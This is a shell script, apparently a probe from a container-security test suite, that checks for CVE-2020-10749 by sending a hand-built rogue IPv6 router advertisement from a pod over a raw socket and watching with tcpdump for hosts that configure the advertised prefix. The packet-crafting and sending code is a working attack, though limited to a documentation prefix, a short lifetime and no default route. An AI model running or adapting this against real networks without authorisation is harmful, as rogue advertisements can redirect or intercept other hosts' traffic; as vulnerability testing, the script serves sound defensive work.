# CVE-2020-10749: a rogue IPv6 router advertisement from a pod. With the default CAP_NET_RAW the script sends one RA
# (ICMPv6 134) to all-nodes on INTERFACE (eth0) through a raw ICMPv6 socket — hop limit 255 as RFC 4861 requires,
# multicast loop off so this pod does not take its own RA — carrying a Prefix Information option (on-link,
# autonomous, valid 60 s) for 2001:db8:aXXX:bXXX::/64, the X taken from the canary, and router lifetime 0 (no
# default route is left behind). The kernel computes the ICMPv6 checksum. A host on the link that accepts RAs
# configures an address in that prefix and sends Duplicate Address Detection for it: a neighbor solicitation for
# 2001:db8:aXXX:bXXX:<not our interface id> seen within CAPTURE_SECONDS is `delivered` (the RA was accepted).
# Limitation: a host that accepts the RA with DAD switched off (dad_transmits 0) sends nothing and reads `timeout`.
bm_require CANARY
bm_if=${INTERFACE:-eth0}
bm_seconds=${CAPTURE_SECONDS:-4}
bm_hex=${CANARY#bm}
case $bm_hex in
  ????????????????) case $bm_hex in *[!0-9a-f]*) bm_finish error 2 "the canary is not bm + 16 hex digits" ;; esac ;;
  *) bm_finish error 2 "the canary is not bm + 16 hex digits" ;;
esac
bm_rest=${bm_hex#???}
bm_x=${bm_hex%"$bm_rest"}
bm_rest2=${bm_rest#???}
bm_y=${bm_rest%"$bm_rest2"}
bm_prefix="2001:db8:a$bm_x:b$bm_y"

# Our own interface id (from the link-local address): our own DAD, should any happen, is not the host's answer.
bm_addr=$(ip -6 addr show dev "$bm_if" scope link 2>&1)
bm_own=${bm_addr#*inet6 fe80::}
if [ "$bm_own" = "$bm_addr" ]; then bm_finish unreachable 1 "no IPv6 link-local address on $bm_if: IPv6 is off in this pod" prefix "$bm_prefix::/64"; fi
bm_own=${bm_own%%/*}

# bm_byte HEXPAIR → appends one byte as an octal escape to bm_fmt.
bm_byte() {
  bm_fmt="$bm_fmt\\$(printf '%03o' $((0x$1)))"
}
# RA header: type 134, code 0, checksum (kernel), cur hop limit 64, flags 0, router lifetime 0, reachable 0, retrans 0.
bm_fmt='\206\000\000\000\100\000\000\000\000\000\000\000\000\000\000\000'
# Prefix Information: type 3, length 4 (32 bytes), prefix length 64, flags L+A, valid 60 s, preferred 30 s, reserved.
bm_fmt="$bm_fmt"'\003\004\100\300\000\000\000\074\000\000\000\036\000\000\000\000'
# The prefix: 20 01 0d b8 aX XX bX XX, then 8 zero bytes.
bm_fmt="$bm_fmt"'\040\001\015\270'
bm_ax="a$bm_x"
bm_by="b$bm_y"
bm_byte "${bm_ax%??}"
bm_byte "${bm_ax#??}"
bm_byte "${bm_by%??}"
bm_byte "${bm_by#??}"
bm_fmt="$bm_fmt"'\000\000\000\000\000\000\000\000'

# bm_send_ra: sends the RA, then prints `BM-SEND <exit> <socat's last message>`.
bm_send_ra() {
  # IPPROTO_IPV6 (41): IPV6_MULTICAST_HOPS (18) = 255, IPV6_MULTICAST_LOOP (19) = 0.
  bm_send=$(printf "$bm_fmt" | socat -u - "IP6-SENDTO:[ff02::1]:58,so-bindtodevice=$bm_if,setsockopt-int=41:18:255,setsockopt-int=41:19:0" 2>&1)
  printf 'BM-SEND %s %s\n' "$?" "${bm_send##*"$BM_NL"}"
}
# One command substitution: the capture of neighbor solicitations (stderr too), with the send's line once it is open.
bm_text=$(bm_capture_then "$bm_seconds" bm_send_ra -i "$bm_if" -nn -l -Z root 'icmp6 and ip6[40] == 135')
bm_sent=''
bm_target=''
bm_failure=''
bm_captured=''
while IFS= read -r bm_l; do
  case $bm_l in
    'BM-SEND '*) bm_sent=${bm_l#BM-SEND } ;;
    'tcpdump: '*) bm_failure=${bm_failure:-$bm_l} ;;
    [0-9]*' packets captured' | [0-9]*' packet captured') bm_captured=${bm_l%% *} ;;
    *"who has $bm_prefix:"*)
      bm_t=${bm_l#*who has }
      bm_t=${bm_t%%,*}
      case $bm_t in
        *":$bm_own") ;;
        *) bm_target=${bm_target:-$bm_t} ;;
      esac
      ;;
  esac
done <<BM_END
$bm_text
BM_END
if [ -z "$bm_sent" ]; then
  # The capture never opened, so nothing was sent: what tcpdump said is the reading.
  case $bm_failure in
    *'Operation not permitted'* | *'ermission denied'* | *"have permission"*) bm_finish permission-denied 1 "tcpdump could not capture (CAP_NET_RAW needed); no RA was sent" prefix "$bm_prefix::/64" ;;
  esac
  bm_finish error 1 "tcpdump did not open its capture within ${bm_seconds}s, so no RA was sent: ${bm_failure:-no message}" prefix "$bm_prefix::/64"
fi
case $bm_sent in
  0\ *) ;;
  *'socket('*'Operation not permitted'* | *'ermission denied'*) bm_finish permission-denied 1 "raw ICMPv6 socket refused (no CAP_NET_RAW)" prefix "$bm_prefix::/64" ;;
  *'Operation not permitted'*) bm_finish timeout 1 "RA dropped by netfilter in the pod" prefix "$bm_prefix::/64" ;;
  *) bm_finish error 1 "the RA was not sent: ${bm_sent#* }" prefix "$bm_prefix::/64" ;;
esac
if [ -n "$bm_target" ]; then
  bm_finish delivered 0 "a host on $bm_if took the rogue prefix: DAD for $bm_target" prefix "$bm_prefix::/64" address "$bm_target"
fi
if [ -z "$bm_captured" ]; then
  case $bm_failure in
    *'Operation not permitted'* | *'ermission denied'* | *"have permission"*) bm_finish permission-denied 1 "tcpdump could not capture (CAP_NET_RAW needed)" prefix "$bm_prefix::/64" ;;
  esac
  bm_finish error 1 "tcpdump did not run: ${bm_failure:-no statistics line}" prefix "$bm_prefix::/64"
fi
bm_finish timeout 0 "RA sent; no host configured $bm_prefix::/64 within ${bm_seconds}s (no DAD seen)" prefix "$bm_prefix::/64"
